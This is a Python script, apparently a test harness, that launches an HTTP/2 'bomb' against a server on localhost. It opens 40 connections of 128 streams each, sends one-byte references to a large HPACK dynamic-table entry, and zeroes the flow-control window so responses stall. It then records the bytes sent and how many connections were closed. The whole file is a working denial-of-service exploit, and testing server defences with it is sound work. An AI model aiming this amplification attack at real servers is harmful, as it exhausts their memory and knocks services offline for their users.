"""The HTTP/2 Bomb: `h2_bomb.py PORT SECONDS RESULT_FILE HOST FIELDS NAME BYTES`.

40 connections from 127.0.0.2, 128 streams on each, and in each request FIELDS fields that cost one byte on the wire: references to
one entry of the dynamic table, of the name NAME with a value of BYTES. The client's window is zero, so that no answer's
body can be sent, and it keeps everything open. The result says how many bytes it has sent.
"""

import asyncio
import pathlib
import sys

port, seconds, result = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
host, fields, name, size = sys.argv[4].encode(), int(sys.argv[5]), sys.argv[6].encode(), int(sys.argv[7])
CONNECTIONS, STREAMS = 40, 128
sent = refused = 0


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def string(text: bytes) -> bytes:
    """A string of HPACK, as it is (RFC 7541 section 5.2)."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, length = len(text) - 127, bytearray([127])
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    return bytes(length) + bytes([rest]) + text


def requests() -> bytes:
    # GET, http, /, and the host as a literal that enters no table.
    head = b"\x82\x86\x84\x01" + string(host)
    entry = b"\x40" + string(name) + string(b"v" * size)
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00")
    for number in range(STREAMS):
        block = head + (entry + b"\xbe" * (fields - 1) if number == 0 else b"\xbe" * fields)
        out += frame(1, 5, 2 * number + 1, block)
    return out


async def connection():
    global sent, refused
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=("127.0.0.2", 0))
        data = requests()
        writer.write(data + frame(4, 1, 0, b""))
        sent += len(data)
        while await reader.read(65536):
            pass
        refused += 1
    except OSError:
        refused += 1


async def main():
    tasks = [asyncio.ensure_future(connection()) for _ in range(CONNECTIONS)]
    await asyncio.sleep(seconds)
    closed = refused
    for task in tasks:
        task.cancel()
    pathlib.Path(result).write_text(f"{sent} bytes sent, {closed} of {CONNECTIONS} connections were closed\n")


asyncio.run(main())
